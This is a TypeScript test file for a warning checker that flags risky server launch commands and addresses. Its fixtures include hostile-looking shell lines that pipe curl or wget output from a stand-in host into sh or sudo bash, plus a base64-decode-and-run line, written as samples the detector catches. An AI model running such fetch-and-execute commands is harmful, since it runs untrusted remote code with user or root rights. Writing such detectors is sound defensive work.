import { describe, expect, it } from 'vitest';
import { findWarnings, maskAddress, maskArguments } from './find-warnings.ts';

const local = (command: string, args: string[] = [], env: Record<string, string> = {}, cwd?: string): string =>
  findWarnings({ kind: 'local', command, args, env: new Map(Object.entries(env)), cwd }).join('; ');
const remote = (url: string): string =>
  findWarnings({ kind: 'remote', url, transport: 'http', headers: new Map() }).join('; ');

describe('findWarnings', () => {
  it.each([
    ['sh', ['-c', 'x'], 'in a shell (sh -c)'],
    ['/bin/bash', ['-lc', 'x'], 'in a shell (bash -c)'],
    ['powershell.exe', ['-File', 'x.ps1'], 'in a shell (powershell)'],
    ['cmd', ['/c', 'del', 'x'], 'in a shell (cmd)'],
    ['sh', ['-c', 'curl -s https://x.example | sh'], 'downloads a script'],
    ['bash', ['-c', 'wget -qO- https://x.example | sudo /bin/bash'], 'downloads a script'],
    ['bash', ['-c', 'eval "$(curl https://x.example)"'], 'downloads a script'],
    ['sh', ['-c', 'echo x | base64 -d | sh'], 'decodes a hidden script'],
    ['node', ['-e', 'x()'], 'runs code from its arguments (node)'],
    ['/tmp/server', [], 'temporary folder'],
    ['node', ['/var/tmp/x.js'], 'temporary folder'],
    ['sudo', ['server'], 'rights of another user'],
    ['sh', ['-c', 'x; sudo y'], 'rights of another user'],
    ['server', ['--api-key', 'example0123'], 'a secret is in its arguments'],
    ['server', ['--api-key=example0123'], 'a secret is in its arguments'],
    ['docker', ['run', '-e', 'API_TOKEN=example0123', 'image:1'], 'a secret is in its arguments'],
    ['node', ['a\u202eb'], 'hidden characters'],
    ['node', ['a\nb'], 'hidden characters'],
  ])('%s %j: %s', (command, args, warning) => {
    expect(local(command, args)).toContain(warning);
  });

  it.each([
    ['npx', ['-y', 'name']],
    ['cmd', ['/c', 'npx', '-y', 'name']],
    ['node', ['/home/ann/tmp-server/index.js', '--max-tokens', '5']],
    ['python', ['-m', 'server']],
  ])('%s %j: nothing', (command, args) => {
    expect(local(command, args)).toBe('');
  });

  it('looks at variables, the folder and the address', () => {
    expect(local('node', [], { LD_PRELOAD: 'x', LEVEL: 'y' })).toBe(
      'its variable LD_PRELOAD changes which code is loaded',
    );
    expect(local('node', [], {}, '/tmp')).toContain('temporary folder');
    expect(remote('http://example.com/mcp')).toBe('its address is not encrypted');
    expect(remote('https://a:example0@example.com/mcp')).toBe('a secret is in its address');
    expect(remote('https://example.com/mcp?api_key=example0123')).toBe('a secret is in its address');
    expect(remote('http://localhost:3000/mcp') + remote('http://127.0.0.1/') + remote('https://example.com')).toBe('');
  });

  it('masks secrets where they are shown', () => {
    expect(maskArguments(['--api-key', 'example0123', '-u', 'ann:example0123', 'x']).args).toEqual([
      '--api-key',
      '[secret]',
      '-u',
      'ann:[secret]',
      'x',
    ]);
    expect(maskAddress('https://example.com/?token=example0123')).toBe('https://example.com/?token=[secret]');
  });

  it('takes linear time', () => {
    const started = process.cpuUsage();
    local('sh', ['-c', 'curl '.repeat(200_000)]);
    local('sh', ['-c', ' '.repeat(1_000_000)]);
    expect(process.cpuUsage(started).user).toBeLessThan(20_000_000);
  });
});
